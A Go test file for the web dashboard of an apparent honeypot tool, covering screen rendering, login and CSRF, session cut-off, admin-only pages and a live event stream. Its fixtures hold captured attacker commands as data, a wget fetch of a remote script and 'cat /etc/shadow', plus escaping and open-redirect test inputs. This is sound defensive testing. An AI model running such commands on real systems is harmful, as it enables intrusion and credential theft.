package web

import (
	"bufio"
	"context"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/decnet-go/decnet/internal/event"
	"github.com/decnet-go/decnet/internal/store"
)

// TestScreensGolden renders every screen over the fixed seed and compares
// its <main> with testdata/<name>.golden.
func TestScreensGolden(t *testing.T) {
	e := newEnv(t)
	e.seed()
	e.addUser("alice", roleAdmin, false)
	b := e.browser()
	b.login("alice", testPassword)

	ctx := context.Background()
	att, _, err := e.st.AttackersSorted(ctx, store.Page{Limit: 10, Search: "203.0.113.5"}, store.SortRecent)
	if err != nil || len(att) != 1 {
		t.Fatalf("seeded attacker: %v %v", att, err)
	}
	ev, _, err := e.st.Events(ctx, store.Page{Limit: 1, Type: event.TypeLoginAttempt})
	if err != nil || len(ev) != 1 {
		t.Fatalf("seeded event: %v %v", ev, err)
	}

	cases := []struct {
		name, path string
		want       []string // what an operator must see, beyond the golden file
	}{
		{"overview", "/ui/", []string{"Top attackers", "203.0.113.5", "admin&lt;script&gt;", "Events, last 24 hours"}},
		{"events", "/ui/events", []string{"wget http://203.0.113.99/x.sh", "data-stream="}},
		{"events_filtered", "/ui/events?service=http&type=request", []string{"/cgi-bin/luci"}},
		{"event", "/ui/events/" + itoa(ev[0].ID), []string{"root", "Credential"}},
		{"attackers", "/ui/attackers?sort=active", []string{"203.0.113.5", "198.51.100.7", "192.0.2.9"}},
		{"attackers_search", "/ui/attackers?q=198.51", []string{"198.51.100.7"}},
		{"attacker", "/ui/attackers/" + att[0].UUID, []string{"uname -a", "Sessions", "root"}},
		{"deckies", "/ui/deckies", []string{"decky-01", "address in use", "wanted 22"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			rec := b.do("GET", tc.path, nil)
			if rec.Code != http.StatusOK {
				t.Fatalf("GET %s: %d\n%s", tc.path, rec.Code, rec.Body)
			}
			body := rec.Body.String()
			for _, w := range tc.want {
				if !strings.Contains(body, w) {
					t.Errorf("GET %s lacks %q", tc.path, w)
				}
			}
			if strings.Contains(body, "<script>") && !strings.Contains(body, `<script src=`) {
				t.Errorf("GET %s has an unescaped script", tc.path)
			}
			golden(t, tc.name, fragment(t, body))
		})
	}
}

// TestFragmentForHTMX: a filter swap gets only the results, no shell.
func TestFragmentForHTMX(t *testing.T) {
	e := newEnv(t)
	e.seed()
	e.addUser("alice", roleViewer, false)
	b := e.browser()
	b.login("alice", testPassword)
	rec := b.do("GET", "/ui/attackers?q=203.0", nil, "HX-Request", "true", "HX-Target", "results")
	body := rec.Body.String()
	if rec.Code != http.StatusOK || strings.Contains(body, "<html") || !strings.Contains(body, "203.0.113.5") || strings.Contains(body, "198.51.100.7") {
		t.Fatalf("fragment: %d\n%s", rec.Code, body)
	}
	golden(t, "attackers_fragment", normalize(body))
}

func TestNoSessionRedirectsToLogin(t *testing.T) {
	e := newEnv(t)
	for _, path := range []string{"/ui/", "/ui/events", "/ui/attackers", "/ui/deckies", "/ui/users", "/ui/password"} {
		t.Run(path, func(t *testing.T) {
			rec := e.browser().do("GET", path, nil)
			if rec.Code != http.StatusSeeOther || !strings.HasPrefix(rec.Header().Get("Location"), "/ui/login") {
				t.Fatalf("GET %s without a session: %d Location=%q", path, rec.Code, rec.Header().Get("Location"))
			}
		})
	}
	t.Run("htmx", func(t *testing.T) {
		rec := e.browser().do("GET", "/ui/attackers", nil, "HX-Request", "true")
		if rec.Code != http.StatusUnauthorized || !strings.HasPrefix(rec.Header().Get("HX-Redirect"), "/ui/login") {
			t.Fatalf("htmx without a session: %d HX-Redirect=%q", rec.Code, rec.Header().Get("HX-Redirect"))
		}
	})
	t.Run("forged cookie", func(t *testing.T) {
		b := e.browser()
		b.cookies[sessionCookie] = randomToken()
		if rec := b.do("GET", "/ui/", nil); rec.Code != http.StatusSeeOther {
			t.Fatalf("made-up session id: %d", rec.Code)
		}
	})
}

func TestLoginPage(t *testing.T) {
	e := newEnv(t)
	rec := e.browser().do("GET", "/ui/login", nil)
	if rec.Code != http.StatusOK {
		t.Fatal(rec.Code)
	}
	c := rec.Result().Cookies()
	if len(c) != 1 || c[0].Name != loginCSRFCookie || !c[0].HttpOnly || c[0].SameSite != http.SameSiteStrictMode || c[0].Secure {
		t.Fatalf("login CSRF cookie: %+v", c)
	}
	golden(t, "login", fragment(t, rec.Body.String()))
}

func TestLogin(t *testing.T) {
	e := newEnv(t)
	e.addUser("alice", roleViewer, false)
	t.Run("wrong password", func(t *testing.T) {
		b := e.browser()
		page := b.do("GET", "/ui/login", nil)
		rec := b.do("POST", "/ui/login", url.Values{"csrf": {csrfOf(t, page.Body.String())}, "username": {"alice"}, "password": {"nope nope nope"}})
		if rec.Code != http.StatusUnauthorized || !strings.Contains(rec.Body.String(), "Wrong user name or password") {
			t.Fatalf("%d\n%s", rec.Code, rec.Body)
		}
		if _, ok := b.cookies[sessionCookie]; ok {
			t.Fatal("a failed login set a session cookie")
		}
	})
	t.Run("session cookie", func(t *testing.T) {
		b := e.browser()
		page := b.do("GET", "/ui/login", nil)
		rec := b.do("POST", "/ui/login", url.Values{"csrf": {csrfOf(t, page.Body.String())}, "username": {"alice"}, "password": {testPassword}, "next": {"/ui/deckies"}})
		if rec.Code != http.StatusSeeOther || rec.Header().Get("Location") != "/ui/deckies" {
			t.Fatalf("%d %q", rec.Code, rec.Header().Get("Location"))
		}
		var sc *http.Cookie
		for _, c := range rec.Result().Cookies() {
			if c.Name == sessionCookie {
				sc = c
			}
		}
		if sc == nil || !sc.HttpOnly || sc.SameSite != http.SameSiteStrictMode || sc.Path != "/ui/" || len(sc.Value) < 40 {
			t.Fatalf("session cookie: %+v", sc)
		}
	})
	t.Run("open redirect refused", func(t *testing.T) {
		for _, next := range []string{"https://evil.example/", "//evil.example/ui/", "/api/v1/stats", `/ui/\evil`} {
			if got := safeNext(next); got != "/ui/" {
				t.Errorf("safeNext(%q) = %q", next, got)
			}
		}
	})
	t.Run("secure over TLS", func(t *testing.T) {
		r := httptest.NewRequest("GET", "https://decnet.example/ui/login", nil)
		rec := httptest.NewRecorder()
		e.d.ServeHTTP(rec, r)
		if c := rec.Result().Cookies(); len(c) != 1 || !c[0].Secure {
			t.Fatalf("cookie over TLS: %+v", c)
		}
	})
}

func TestCSRF(t *testing.T) {
	e := newEnv(t)
	e.addUser("alice", roleViewer, false)

	t.Run("login without token", func(t *testing.T) {
		b := e.browser()
		b.do("GET", "/ui/login", nil) // has the cookie, but posts no field
		rec := b.do("POST", "/ui/login", url.Values{"username": {"alice"}, "password": {testPassword}})
		if rec.Code != http.StatusForbidden {
			t.Fatalf("login without CSRF: %d", rec.Code)
		}
	})
	t.Run("login token without cookie", func(t *testing.T) {
		b := e.browser()
		page := b.do("GET", "/ui/login", nil)
		delete(b.cookies, loginCSRFCookie)
		rec := b.do("POST", "/ui/login", url.Values{"csrf": {csrfOf(t, page.Body.String())}, "username": {"alice"}, "password": {testPassword}})
		if rec.Code != http.StatusForbidden {
			t.Fatalf("login with a token but no cookie: %d", rec.Code)
		}
	})

	b := e.browser()
	token := b.login("alice", testPassword)
	for _, tc := range []struct {
		name string
		form url.Values
		hdr  []string
		want int
	}{
		{"missing", url.Values{}, nil, http.StatusForbidden},
		{"wrong", url.Values{"csrf": {wrongToken(token)}}, nil, http.StatusForbidden},
		{"cross-site with token", url.Values{"csrf": {token}}, []string{"Sec-Fetch-Site", "cross-site"}, http.StatusForbidden},
		{"header (htmx)", url.Values{}, []string{csrfHeader, token, "Sec-Fetch-Site", "same-origin"}, http.StatusSeeOther},
	} {
		t.Run("logout "+tc.name, func(t *testing.T) {
			rec := b.do("POST", "/ui/logout", tc.form, tc.hdr...)
			if rec.Code != tc.want {
				t.Fatalf("POST /ui/logout: %d, want %d", rec.Code, tc.want)
			}
		})
	}
	if rec := b.do("GET", "/ui/", nil); rec.Code != http.StatusSeeOther {
		t.Fatalf("after logout: %d, want the login redirect", rec.Code)
	}
}

func TestViewerCannotReachAdmin(t *testing.T) {
	e := newEnv(t)
	e.addUser("vera", roleViewer, false)
	e.addUser("alice", roleAdmin, false)

	v := e.browser()
	v.login("vera", testPassword)
	home := v.do("GET", "/ui/", nil).Body.String()
	if strings.Contains(home, `href="/ui/users"`) {
		t.Error("a viewer's navigation links to the admin-only Users page")
	}
	if rec := v.do("GET", "/ui/users", nil); rec.Code != http.StatusForbidden || !strings.Contains(rec.Body.String(), "Admins only") {
		t.Fatalf("viewer GET /ui/users: %d", rec.Code)
	}

	a := e.browser()
	a.login("alice", testPassword)
	if !strings.Contains(a.do("GET", "/ui/", nil).Body.String(), `href="/ui/users"`) {
		t.Error("an admin's navigation lacks Users")
	}
	rec := a.do("GET", "/ui/users", nil)
	if rec.Code != http.StatusOK || !strings.Contains(rec.Body.String(), "vera") {
		t.Fatalf("admin GET /ui/users: %d", rec.Code)
	}
}

func TestForcedPasswordChange(t *testing.T) {
	e := newEnv(t)
	e.addUser("admin", roleAdmin, true)
	b := e.browser()
	page := b.do("GET", "/ui/login", nil)
	rec := b.do("POST", "/ui/login", url.Values{"csrf": {csrfOf(t, page.Body.String())}, "username": {"admin"}, "password": {testPassword}})
	if rec.Code != http.StatusSeeOther || rec.Header().Get("Location") != "/ui/password" {
		t.Fatalf("must-change login: %d %q", rec.Code, rec.Header().Get("Location"))
	}
	for _, path := range []string{"/ui/", "/ui/attackers", "/ui/users"} {
		if rec := b.do("GET", path, nil); rec.Code != http.StatusSeeOther || rec.Header().Get("Location") != "/ui/password" {
			t.Fatalf("GET %s before the change: %d %q", path, rec.Code, rec.Header().Get("Location"))
		}
	}
	pw := b.do("GET", "/ui/password", nil)
	if pw.Code != http.StatusOK {
		t.Fatal(pw.Code)
	}
	golden(t, "password_forced", fragment(t, pw.Body.String()))
	token := csrfOf(t, pw.Body.String())

	const newPW = "a much longer passphrase"
	for _, tc := range []struct{ name, old, new, confirm, want string }{
		{"short", testPassword, "short", "short", "12 to 72 characters"},
		{"mismatch", testPassword, newPW, newPW + "x", "differ"},
		{"wrong current", "not the password", newPW, newPW, "current password is wrong"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rec := b.do("POST", "/ui/password", url.Values{"csrf": {token}, "old_password": {tc.old}, "new_password": {tc.new}, "confirm": {tc.confirm}})
			if rec.Code != http.StatusUnprocessableEntity || !strings.Contains(rec.Body.String(), tc.want) {
				t.Fatalf("%d, want 422 with %q\n%s", rec.Code, tc.want, fragment(t, rec.Body.String()))
			}
		})
	}
	rec = b.do("POST", "/ui/password", url.Values{"csrf": {token}, "old_password": {testPassword}, "new_password": {newPW}, "confirm": {newPW}})
	if rec.Code != http.StatusSeeOther || rec.Header().Get("Location") != "/ui/login?changed=1" {
		t.Fatalf("change: %d %q", rec.Code, rec.Header().Get("Location"))
	}
	if rec := b.do("GET", "/ui/", nil); rec.Code != http.StatusSeeOther || !strings.HasPrefix(rec.Header().Get("Location"), "/ui/login") {
		t.Fatalf("the old session survived the change: %d", rec.Code)
	}
	u, err := e.st.UserByName(context.Background(), "admin")
	if err != nil || u.MustChangePassword {
		t.Fatalf("user after change: %+v %v", u, err)
	}
	b.login("admin", newPW)
	if rec := b.do("GET", "/ui/", nil); rec.Code != http.StatusOK {
		t.Fatalf("overview after the change: %d", rec.Code)
	}
}

// TestSessionEndsWithCutoff: a password change made elsewhere (the API, or
// another browser) ends this session too.
func TestSessionEndsWithCutoff(t *testing.T) {
	e := newEnv(t)
	u := e.addUser("alice", roleViewer, false)
	b := e.browser()
	b.login("alice", testPassword)
	if err := e.st.SetPassword(context.Background(), u.UUID, u.PasswordHash, false, testNow.Unix()+1); err != nil {
		t.Fatal(err)
	}
	if rec := b.do("GET", "/ui/", nil); rec.Code != http.StatusSeeOther {
		t.Fatalf("session after a cut-off: %d", rec.Code)
	}
}

func TestNotFound(t *testing.T) {
	e := newEnv(t)
	e.addUser("alice", roleViewer, false)
	b := e.browser()
	b.login("alice", testPassword)
	for _, path := range []string{"/ui/attackers/no-such-uuid", "/ui/events/999999", "/ui/events/abc"} {
		if rec := b.do("GET", path, nil); rec.Code != http.StatusNotFound || !strings.Contains(rec.Body.String(), "Not found") {
			t.Errorf("GET %s: %d", path, rec.Code)
		}
	}
}

func TestStatic(t *testing.T) {
	e := newEnv(t)
	for _, path := range []string{"/ui/static/app.css", "/ui/static/htmx.min.js", "/ui/static/app.js"} {
		rec := e.browser().do("GET", path, nil)
		if rec.Code != http.StatusOK || rec.Body.Len() < 500 {
			t.Errorf("GET %s: %d, %d bytes", path, rec.Code, rec.Body.Len())
		}
	}
	rec := e.browser().do("GET", "/ui/", nil)
	if csp := rec.Header().Get("Content-Security-Policy"); !strings.Contains(csp, "script-src 'self'") {
		t.Errorf("CSP = %q", csp)
	}
}

// TestStream: a new event reaches an open stream as a rendered row, and
// the counters frame follows when asked for.
func TestStream(t *testing.T) {
	e := newEnv(t)
	e.seed()
	e.addUser("alice", roleViewer, false)
	b := e.browser()
	b.login("alice", testPassword)

	srv := httptest.NewServer(e.d)
	defer srv.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	req, _ := http.NewRequestWithContext(ctx, "GET", srv.URL+"/ui/stream?counters=1&service=ssh", nil)
	req.AddCookie(&http.Cookie{Name: sessionCookie, Value: b.cookies[sessionCookie]})
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK || resp.Header.Get("Content-Type") != "text/event-stream" {
		t.Fatalf("stream: %d %s", resp.StatusCode, resp.Header.Get("Content-Type"))
	}

	http1 := event.New("decky-02", "http", event.TypeRequest)
	http1.SrcIP, http1.Fields = "198.51.100.8", map[string]any{"path": "/filtered-out"}
	ssh := event.New("decky-01", "ssh", event.TypeCommand)
	ssh.SrcIP, ssh.Fields = "198.51.100.8", map[string]any{"command": "cat /etc/shadow"}
	if _, err := e.st.IngestBatch(context.Background(), []event.Event{http1, ssh}); err != nil {
		t.Fatal(err)
	}

	sc := bufio.NewScanner(resp.Body)
	var got []string
	sawRows, sawCounters := false, false
	for sc.Scan() && !(sawRows && sawCounters) {
		line := sc.Text()
		got = append(got, line)
		if strings.HasPrefix(line, "data: ") && strings.Contains(line, "cat /etc/shadow") {
			sawRows = true
		}
		if strings.Contains(line, "/filtered-out") {
			t.Fatalf("the stream sent an event its filter excludes: %s", line)
		}
		if line == "event: counters" {
			sawCounters = true
		}
	}
	if !sawRows || !sawCounters {
		t.Fatalf("stream ended without the new row and counters:\n%s", strings.Join(got, "\n"))
	}
}

func TestStreamNeedsSession(t *testing.T) {
	e := newEnv(t)
	rec := e.browser().do("GET", "/ui/stream", nil)
	if rec.Code != http.StatusUnauthorized {
		t.Fatalf("stream without a session: %d", rec.Code)
	}
}

func itoa(n int64) string { return strconv.FormatInt(n, 10) }
